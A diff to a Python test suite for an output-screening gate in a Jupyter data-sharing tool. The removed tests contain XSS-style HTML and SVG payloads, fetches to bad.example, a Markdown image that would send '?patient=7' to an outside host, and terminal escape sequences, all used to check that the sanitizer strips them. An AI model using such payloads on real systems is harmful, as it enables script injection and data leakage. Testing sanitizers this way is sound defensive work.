@@ -2,9 +2,6 @@
 
 from __future__ import annotations
 
-import base64
-import struct
-import zlib
 from typing import Any
 
 import pandas as pd
@@ -17,7 +14,7 @@ from sls_jupyter.assets.frames import frame_schema
 from sls_jupyter.contract.grants import Obligations
 from sls_jupyter.contract.spec import KINDS
 from sls_jupyter.guest.gate import GROUP_SIZE_COLUMN, BytesLimit, Gate, Table
-from sls_jupyter.guest.tables import has_only_known_types, stripped, written_bytes
+from sls_jupyter.guest.tables import anew, has_only_known_types, written_bytes
 
 kinds = st.sets(st.sampled_from(KINDS)).map(lambda chosen: tuple(kind for kind in KINDS if kind in chosen))
 small = st.one_of(st.none(), st.integers(1, 6))
@@ -29,18 +26,6 @@ def sized(rows: list[tuple[int, str]]) -> pa.Table:
     sizes, names = [size for size, _ in rows], [name for _, name in rows]
     encoded = pa.array(names, pa.string()).dictionary_encode()
     return pa.table({"kind": encoded, GROUP_SIZE_COLUMN: pa.array(sizes, pa.int64())})
-
-
-def picture(*extra: tuple[bytes, bytes]) -> str:
-    """A PNG of one pixel with more chunks in it."""
-
-    def chunk(kind: bytes, data: bytes) -> bytes:
-        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
-
-    head = chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
-    body = chunk(b"IDAT", zlib.compress(b"\0\0"))
-    middle = b"".join(chunk(kind, data) for kind, data in extra)
-    return base64.b64encode(b"\x89PNG\r\n\x1a\n" + head + middle + body + chunk(b"IEND", b"")).decode()
 
 
 @settings(deadline=None, max_examples=150)
@@ -141,7 +126,7 @@ def test_frames_with_intervals_and_categories_come_through() -> None:
     )
     assert has_only_known_types(table.schema)
     assert has_only_known_types(frame_schema(frame))
-    kept = stripped(table.filter(pa.array([True, False, True])), values=True)
+    kept = anew(table.filter(pa.array([True, False, True])), "arrow", whole=False)
     assert kept["c"].chunk(0).dictionary.to_pylist() == ["a"]
     assert kept["c"].to_pylist() == ["a", "a"]
 
@@ -163,73 +148,25 @@ def test_a_count_column_of_the_table_itself_tells_the_sizes() -> None:
     assert Gate(Obligations(min_group=10)).table("x", "frame", pa.table({"n": [99.0]})) is None
 
 
-def test_a_picture_leaves_without_its_texts() -> None:
-    """PNG has chunks for text, times and profiles, of any size."""
-    chunks = [(b"tEXt", b"note\0patient 7"), (b"zTXt", b"x"), (b"eXIf", b"y"), (b"prVt", b"z" * 1000)]
-    found = Gate(Obligations()).display({"image/png": picture(*chunks)})
-    assert found == {"image/png": picture()}
-
-
-@pytest.mark.parametrize("bad", ["", "AAAA", "not base64 \udc80", picture()[:40], base64.b64encode(b"GIF89a").decode()])
-def test_what_is_no_picture_does_not_leave_as_one(bad: str) -> None:
-    """A broken picture could be any bytes."""
+def test_a_figure_is_one_picture_and_a_broken_one_is_none() -> None:
+    """A bundle brings a picture in several forms; the first that can be read leaves, under the kind ``figure``."""
+    svg = "<svg><rect/></svg>"
+    found = Gate(Obligations()).display({"image/png": "AAAA", "image/svg+xml": svg, "text/plain": "<Figure>"})
+    assert found is not None
+    assert list(found) == ["image/svg+xml"]
     gate = Gate(Obligations())
-    assert gate.display({"image/png": bad}) is None
+    assert gate.display({"image/png": "AAAA", "text/plain": "<Figure>"}) is None
     assert gate.withheld["unsafe"] == 1
+    gate = Gate(Obligations(kinds=("table", "text")))
+    assert gate.display({"image/svg+xml": svg}) is None
+    assert gate.withheld["figure"] == 1
 
 
-@pytest.mark.parametrize(
-    ("mime", "text"),
-    [
-        ("text/html", "<p>ok</p><script>bad()</script>"),
-        ("text/html", "<p onclick=bad()>ok</p>"),
-        ("text/html", "<p style='background:url(bad)'>ok</p>"),
-        ("text/html", "<img src='//bad.example/x' onerror=bad()>ok"),
-        ("text/html", "<a href='javascript:bad()'>ok</a><a href='/bad'>ok</a>"),
-        ("text/html", "<iframe src=/bad></iframe><form action=/bad><input name=bad></form>ok"),
-        ("text/html", "<q cite='https://bad.example'>ok</q>"),
-        ("text/markdown", "ok <img src=//bad.example/x>"),
-        ("image/svg+xml", "<svg><title>ok</title><script>bad()</script></svg>"),
-        ("image/svg+xml", "<svg><title>ok</title><rect onload='bad()'/></svg>"),
-        ("image/svg+xml", "<svg><title>ok</title><rect fill='url(//bad.example/a#b)'/></svg>"),
-        ("image/svg+xml", "<svg><title>ok</title><rect fill='\\75 rl(//bad.example/a)'/></svg>"),
-        ("image/svg+xml", "<svg><title>ok</title><use href='//bad.example/a'/><image href='/bad'/></svg>"),
-        ("image/svg+xml", "<svg><title>ok</title><style>@import '//bad.example';</style></svg>"),
-        ("image/svg+xml", "<svg><title>ok</title><foreignObject><iframe src='/bad'/></foreignObject></svg>"),
-    ],
-)
-def test_markup_leaves_without_what_runs_or_fetches(mime: str, text: str) -> None:
-    """A display must not run in the analyst's browser, nor carry data to an address it names."""
-    found = Gate(Obligations()).display({mime: text})
-    assert found is not None
-    assert "ok" in found[mime]
-    assert "bad" not in found[mime]
-
-
-def test_pictures_in_markdown_are_not_fetched() -> None:
-    """An address in a picture of Markdown is fetched at once, with whatever stands in it."""
-    found = Gate(Obligations()).display({"text/markdown": "![x](https://e.example/?patient=7) ![y][z]"})
-    assert found is not None
-    assert "![" not in found["text/markdown"]
-
-
-def test_gradients_of_a_picture_stay() -> None:
-    """A reference into the same picture is not an address."""
-    found = Gate(Obligations()).display({"image/svg+xml": '<svg><rect fill="url(#g1)"/></svg>'})
-    assert found == {"image/svg+xml": '<svg><rect fill="url(#g1)"></rect></svg>'}
-
-
-@settings(deadline=None, max_examples=200)
-@given(st.text(alphabet="\x1b[]0;19mhHJK\x07ab \u009b\\", max_size=40))
-def test_no_terminal_command_leaves_but_colours(text: str) -> None:
-    """Escape sequences can write to a terminal's title, clipboard or history."""
-    found = Gate(Obligations()).text(text)
-    assert found is not None
-    rest = found
-    while "\x1b[" in rest:
-        _, _, rest = rest.partition("\x1b[")
-        assert rest.lstrip("0123456789;").startswith("m")
-    assert "\x1b" not in found.replace("\x1b[", "")
+def test_markup_that_cannot_be_cleaned_leaves_its_plain_form() -> None:
+    """A display has several forms; one that is held back does not take the others with it."""
+    gate = Gate(Obligations(), clean=lambda *_: None)
+    assert gate.display({"text/html": "<p>", "text/plain": "shown"}) == {"text/plain": "shown"}
+    assert gate.display({"text/html": "<p>"}) is None
 
 
 @pytest.mark.parametrize("value", [2**70, float("nan"), {"a": "\ud800"}])
@@ -257,9 +194,48 @@ def test_only_the_first_error_speaks_and_only_its_known_type() -> None:
     assert gate.error("ValueError", "ill", []) is None
     assert Gate(Obligations()).error("ValueError", "ill", ["x"]) == {"name": "ValueError", "value": "", "traceback": []}
     full = Gate(Obligations(full_errors=True, max_bytes=100))
-    assert full.error("Own", "why \x1b]0;title\x07", ["line"])["value"].startswith("why")  # type: ignore[index]
+    assert full.error("Own", "why \x1b]0;title\x07", ["line"]) == {
+        "name": "Own",
+        "value": "why ",
+        "traceback": ["line"],
+    }
     with pytest.raises(BytesLimit):
         full.error("Own", "v" * 200, [])
+
+
+@pytest.mark.parametrize(
+    ("name", "bases", "told"),
+    [
+        ("patient_7", ["KeyError", "LookupError", "Exception"], "KeyError"),
+        ("patient_7", ["patient_8", "Exception", "BaseException", "object"], "Exception"),
+        ("patient_7", [], "Exception"),
+        ("dict", ["object"], "Exception"),  # a known name, but of no exception
+        ("OutOfBoundsDatetime", ["ValueError"], "OutOfBoundsDatetime"),
+        ("ArrowInvalid", ["ValueError", "ArrowException"], "ArrowInvalid"),
+        ("KeyboardInterrupt", ["BaseException"], "KeyboardInterrupt"),
+    ],
+)
+def test_an_invented_class_leaves_as_its_nearest_known_base(name: str, bases: list[str], told: str) -> None:
+    """A class that the cell names after a patient tells an analyst no more than what kind of error it is."""
+    found = Gate(Obligations()).error(name, "ill", [], bases)
+    assert found is not None
+    assert found["name"] == told
+
+
+def test_judging_changes_nothing_until_it_is_taken() -> None:
+    """An end that comes while a figure is cleaned neither waits for it nor counts it."""
+    gate = Gate(Obligations())
+    judged = gate.judge_table("x", "arrow", pa.table({"a": [1]}))
+    assert gate.verdict() == Gate(Obligations()).verdict()
+    assert gate.take(judged).name == "x"
+    assert gate.released == {"table": 1}
+
+
+def test_more_values_than_bytes_are_refused_before_they_are_copied() -> None:
+    """A column of nothing is a few bytes here and any number of rows at the recipient."""
+    nothing = pa.Array.from_buffers(pa.null(), 10**12, [None])
+    with pytest.raises(BytesLimit):
+        Gate(Obligations(max_bytes=1000)).judge_table("x", "arrow", pa.table({"a": nothing}))
 
 
 def test_the_verdict_lists_rules_and_counts() -> None:
